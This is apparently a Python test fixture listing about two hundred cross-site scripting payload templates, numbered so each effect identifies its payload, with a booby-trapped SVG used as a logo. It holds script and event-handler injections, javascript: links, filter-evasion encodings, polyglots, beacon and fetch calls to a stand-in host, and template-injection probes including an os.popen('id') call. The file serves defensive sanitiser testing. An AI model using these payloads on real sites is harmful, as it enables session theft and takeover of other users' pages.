"""Two hundred texts with which somebody could try to get into the pages of others.

`%N` is the number of the payload: each effect (a dialog, a variable, a title, a request) says whose it is. The numbers
are the places in the list, from 1. Hosts end in `.invalid`, which no name server answers.
"""

# ruff: noqa: E501 - attacks are as long as they are
from __future__ import annotations

HOST = "marker.invalid"
_TEMPLATES = r'''
<script>alert(%N)</script>
<script>window.__xss=%N</script>
<script>document.title='xss-%N'</script>
<script>fetch('//marker.invalid/%N')</script>
<script src=//marker.invalid/%N.js></script>
<script src="data:text/javascript,alert(%N)"></script>
<script type=module>import('//marker.invalid/%N.js')</script>
<script type="text/javascript">alert(%N);</script >
<SCRIPT>alert(%N)</SCRIPT>
<ScRiPt>alert(%N)</sCrIpT>
<scr<script>ipt>alert(%N)</scr</script>ipt>
<<script>alert(%N)//<</script>
<script/x>alert(%N)</script/x>
<script	>alert(%N)</script>
</script><script>alert(%N)</script>
<script>eval('alert(%N)')</script>
<script>setTimeout('alert(%N)')</script>
<script>new Function('alert(%N)')()</script>
<script>location='//marker.invalid/%N'</script>
<script>navigator.sendBeacon('//marker.invalid/%N')</script>
<script>new WebSocket('ws://marker.invalid/%N')</script>
<script>document.cookie='xss=%N'</script>
<script>parent.postMessage({xss:%N},'*')</script>
<noscript><p title="</noscript><img src=x onerror=alert(%N)>">
<img src=x onerror=alert(%N)>
<img src=x onerror=window.__xss=%N>
<img src=x onerror="document.title='xss-%N'">
<img src=//marker.invalid/%N.png>
<img srcset="//marker.invalid/%N.png 2x">
<img src=x:x onerror=alert&lpar;%N&rpar;>
<img src=x onerror=&#97;lert(%N)>
<img src=x onerror=\u0061lert(%N)>
&#x3C;img src=x onerror=alert(%N)&#x3E;
<img/src=x/onerror=alert(%N)>
<img src="x"onerror="alert(%N)">
<IMG SRC=x OnErRoR=alert(%N)>
<img src=x onerror='alert(%N)' //
<img """><script>alert(%N)</script>">
<img lowsrc=javascript:alert(%N)>
<img dynsrc=javascript:alert(%N)>
<image src=x onerror=alert(%N)>
<picture><source srcset=//marker.invalid/%N.webp><img src=x></picture>
<svg onload=alert(%N)></svg>
<svg/onload=alert(%N)>
<svg><script>alert(%N)</script></svg>
<svg><script href=//marker.invalid/%N.js /></svg>
<svg><animate onbegin=alert(%N) attributeName=x dur=1s></svg>
<svg><set attributeName=onmouseover to=alert(%N)></svg>
<svg><a xlink:href="javascript:alert(%N)"><text y=20>klick</text></a></svg>
<svg><foreignObject><img src=x onerror=alert(%N)></foreignObject></svg>
<svg><image href=//marker.invalid/%N.png /></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(%N)</script></svg>#x"/></svg>
<svg><style>@import'//marker.invalid/%N.css';</style></svg>
<svg><desc><![CDATA[</desc><script>alert(%N)</script>]]></svg>
<svg><title><img src=x onerror=alert(%N)></title></svg>
<math><mtext><img src=x onerror=alert(%N)></mtext></math>
<math href="javascript:alert(%N)">klick</math>
<math><maction actiontype="statusline#http://marker.invalid/%N" xlink:href="javascript:alert(%N)">x</maction></math>
<math><mi xlink:href="data:x,<script>alert(%N)</script>">x</mi></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(%N)></annotation-xml></math>
<iframe src=//marker.invalid/%N></iframe>
<iframe src=javascript:alert(%N)></iframe>
<iframe srcdoc="<script>parent.__xss=%N</script>"></iframe>
<iframe onload=alert(%N)></iframe>
<iframe src="data:text/html,<script>alert(%N)</script>"></iframe>
<frameset onload=alert(%N)><frame src=//marker.invalid/%N></frameset>
<object data=//marker.invalid/%N></object>
<object data="javascript:alert(%N)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#%N"></object>
<embed src=//marker.invalid/%N>
<embed src="javascript:alert(%N)">
<applet code=x codebase=//marker.invalid/%N></applet>
<portal src=//marker.invalid/%N></portal>
<a href=javascript:alert(%N)>klick</a>
<a href="  javascript:alert(%N)">klick</a>
<a href="java	script:alert(%N)">klick</a>
<a href="&#106;avascript:alert(%N)">klick</a>
<a href="JaVaScRiPt:alert(%N)">klick</a>
<a href=vbscript:alert(%N)>klick</a>
<a href="data:text/html,<script>alert(%N)</script>">klick</a>
<a href=# onclick=alert(%N)>klick</a>
<a onmouseover=alert(%N)>hier</a>
<a href=//marker.invalid/%N ping=//marker.invalid/%N>klick</a>
<a target=_blank href=//marker.invalid/%N>klick</a>
<area href=javascript:alert(%N) shape=default>
<form action=//marker.invalid/%N><button>los</button></form>
<form action=javascript:alert(%N)><input type=submit></form>
<form><button formaction=javascript:alert(%N)>los</button></form>
<form id=x></form><button form=x formaction=//marker.invalid/%N>los</button>
<input autofocus onfocus=alert(%N)>
<input type=image src=//marker.invalid/%N.png>
<input type=image src=x onerror=alert(%N)>
<input onblur=alert(%N) autofocus><input autofocus>
<select autofocus onfocus=alert(%N)></select>
<textarea autofocus onfocus=alert(%N)></textarea>
<keygen autofocus onfocus=alert(%N)>
<button popovertarget=x>klick</button><p popover id=x onbeforetoggle=alert(%N)>x</p>
<isindex type=image src=x onerror=alert(%N)>
<details open ontoggle=alert(%N)>
<dialog open onclose=alert(%N)><form method=dialog><button>zu</button></form></dialog>
<body onload=alert(%N)>
<body onpageshow=alert(%N)>
<body background=//marker.invalid/%N.png>
<html onclick=alert(%N)>
<marquee onstart=alert(%N)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(%N)>x</marquee>
<video src=x onerror=alert(%N)></video>
<video poster=//marker.invalid/%N.png></video>
<video><source onerror=alert(%N)></video>
<audio src=x onerror=alert(%N)>
<audio autoplay src=//marker.invalid/%N.mp3></audio>
<track src=//marker.invalid/%N.vtt>
<p style="animation:x" onanimationstart=alert(%N)><style>@keyframes x{}</style>
<xss tabindex=1 autofocus onfocus=alert(%N)>
<x onclick=alert(%N)>klick</x>
<div onpointerover=alert(%N)>hier</div>
<div onscrollend=alert(%N) style="overflow:scroll;height:9px">x<br>x</div>
<div contenteditable autofocus onfocus=alert(%N)>x</div>
<div style="background:url(//marker.invalid/%N.png)">x</div>
<div style="position:fixed;inset:0;background:red">%N</div>
<div style="width:expression(alert(%N))">x</div>
<div style="behavior:url(//marker.invalid/%N.htc)">x</div>
<style>@import '//marker.invalid/%N.css';</style>
<style>*{background:url(//marker.invalid/%N.png)}</style>
<style>*{display:none}</style><p>%N</p>
<style onload=alert(%N)></style>
<link rel=stylesheet href=//marker.invalid/%N.css>
<link rel=prefetch href=//marker.invalid/%N>
<link rel=dns-prefetch href=//marker.invalid/%N>
<link rel=preload as=image href=//marker.invalid/%N.png>
<link rel=manifest href=//marker.invalid/%N.json>
<meta http-equiv=refresh content="0;url=//marker.invalid/%N">
<meta http-equiv=refresh content="0;javascript:alert(%N)">
<meta http-equiv=set-cookie content="xss=%N">
<base href=//marker.invalid/%N/>
<base target=xss-%N>
<template><script>alert(%N)</script></template>
<template shadowrootmode=open><script>alert(%N)</script></template>
<slot onslotchange=alert(%N)>x</slot>
<table background=//marker.invalid/%N.png><tr><td>x</table>
<title>xss-%N</title>
</title><script>alert(%N)</script>
</textarea><script>alert(%N)</script>
</style><script>alert(%N)</script>
</option></select><img src=x onerror=alert(%N)>
--><script>alert(%N)</script>
<!--><img src=x onerror=alert(%N)>-->
<!--[if gte IE 4]><script>alert(%N)</script><![endif]-->
]]><script>alert(%N)</script>
<?xml-stylesheet href="javascript:alert(%N)"?>
<!DOCTYPE x [<!ENTITY y "<script>alert(%N)</script>">]>&y;
"><script>alert(%N)</script>
'><img src=x onerror=alert(%N)>
" autofocus onfocus=alert(%N) x="
' onmouseover=alert(%N) x='
` onmouseover=alert(%N) x=`
'-alert(%N)-'
";alert(%N);//
\';alert(%N);//
`${alert(%N)}`
});alert(%N);({
javascript:alert(%N)
javascript://%0aalert(%N)
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(%N)//'>
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert(%N) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert(%N)//>\x3e
data:text/html,<script>alert(%N)</script>
[klick](javascript:alert(%N))
[klick](JavaScript&colon;alert(%N))
[klick](data:text/html,<script>alert(%N)</script>)
[klick](//marker.invalid/%N)
[klick](http://marker.invalid/%N "titel" onmouseover=alert(%N))
![bild](//marker.invalid/%N.png)
![bild](x"onerror="alert(%N))
[![bild](http://marker.invalid/%N.png)](javascript:alert(%N))
<javascript:alert(%N)>
<http://marker.invalid/%N>
http://marker.invalid/%N
www.marker.invalid/%N
[x%N]: javascript:alert(%N) [klick][x%N]
<div markdown=1>[klick](javascript:alert(%N))</div>
`<img src=x onerror=alert(%N)>`
$\href{javascript:alert(%N)}{x}$
$\includegraphics{http://marker.invalid/%N.png}$
$\htmlData{x=%N}{y}\htmlClass{xss}{y}\htmlStyle{color:red}{z}$
$$\unicode{<img src=x onerror=alert(%N)>}$$
\(\href{javascript:alert(%N)}{x}\)
:material[<img src=x onerror=alert(%N)>] :material/home:
:red[<img src=x onerror=alert(%N)>] :blue-badge[%N] :rainbow[x] :small[y]
:streamlit: :smile: :color[x]{foreground="red;background:url(//marker.invalid/%N)"}
{"$schema":"https://vega.github.io/schema/vega-lite/v6.json","usermeta":{"x":%N},"data":{"url":"http://marker.invalid/%N.json"}}
{"href":"javascript:alert(%N)","url":"http://marker.invalid/%N.png"}
"}],"mark":{"type":"image","url":"http://marker.invalid/%N.png"},"x":[{"
datum['constructor']['constructor']('alert(%N)')()
{{constructor.constructor('alert(%N)')()}} {{7*7}} ${7*7} #{7*7} <%= 7*7 %>
{{ cycler.__init__.__globals__.os.popen('id') }} {% raw %}%N{% endraw %}
%3Cscript%3Ealert(%N)%3C/script%3E
&lt;script&gt;alert(%N)&lt;/script&gt;
\u003cscript\u003ealert(%N)\u003c/script\u003e
＜script＞alert(%N)＜/script＞
+ADw-script+AD4-alert(%N)+ADw-/script+AD4-
'''
PAYLOADS = [line.replace("%N", str(place)) for place, line in enumerate(_TEMPLATES.strip("\n").split("\n"), 1)]
LOGO = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(201)" width="9" height="9"><script>alert(202)</script>'
    '<image href="http://marker.invalid/203.png" width="9" height="9"/></svg>'
)
"""A drawing with everything that a drawing must not have, as a logo."""
